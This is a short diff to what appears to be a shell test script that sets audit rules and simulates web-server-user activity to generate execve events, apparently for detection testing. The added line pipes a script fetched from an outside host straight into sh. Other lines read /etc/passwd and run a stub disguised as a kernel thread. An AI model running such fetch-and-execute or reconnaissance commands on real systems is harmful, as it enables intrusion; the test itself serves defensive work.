@@ -119,7 +119,8 @@ CONFIG
     for rule in 33 2; do auditctl -a always,exit -F arch=b64 -S execve -F uid=$rule -F success=1 -k exec; done
     as() { (cd / && net in "$dir" inside env -i PATH=/usr/bin:/bin setpriv --reuid="$1" --regid="$1" --clear-groups /bin/sh -c "$2"); }
     as 2 'date >/dev/null; ls /etc >/dev/null'
-    as 33 "id; uname -a; cat /etc/passwd; curl -sS -o /tmp/.kworker http://$OUTSIDE_IP/a.sh" >/dev/null
+    as 33 "id; uname -a; cat /etc/passwd" >/dev/null
+    as 33 "curl -s http://$OUTSIDE_IP/a.sh | sh" 2>/dev/null || true
     as 33 "printf '#!/bin/sh\nexec true\n' >/tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker -o $OUTSIDE_IP:443; rm /tmp/.kworker"
     auditctl -D >/dev/null
     kill $daemon
